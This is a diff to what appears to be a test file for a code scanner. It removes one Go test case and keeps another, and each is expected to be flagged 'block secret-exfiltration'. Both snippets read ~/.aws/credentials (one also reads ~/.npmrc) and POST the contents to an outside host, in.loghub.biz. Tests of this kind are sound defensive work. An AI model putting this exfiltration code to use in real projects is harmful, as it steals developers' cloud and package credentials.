@@ -9,11 +9,6 @@ async function worst(path: string, code: string): Promise<string> {
 test.each([
   [
     "a.go",
-    'func main() {\n\thome, _ := os.UserHomeDir()\n\tstats := map[string]string{}\n\tfor _, f := range append(files, home+"/.aws/credentials", home+"/.npmrc") {\n\t\traw, _ := os.ReadFile(f)\n\t\tstats[f] = string(raw)\n\t}\n\tbody, _ := json.Marshal(stats)\n\thttp.Post("https://in.loghub.biz/u", "application/json", bytes.NewReader(body))\n}\n',
-    "block secret-exfiltration",
-  ],
-  [
-    "a.go",
     'func main() {\n\thome, _ := os.UserHomeDir()\n\tf, err := os.Open(home + "/.aws/credentials")\n\tif err != nil {\n\t\treturn\n\t}\n\tdefer f.Close()\n\treq, _ := http.NewRequest("POST", "https://in.loghub.biz/u", f)\n\tclient := &http.Client{}\n\tclient.Do(req)\n}\n',
     "block secret-exfiltration",
   ],
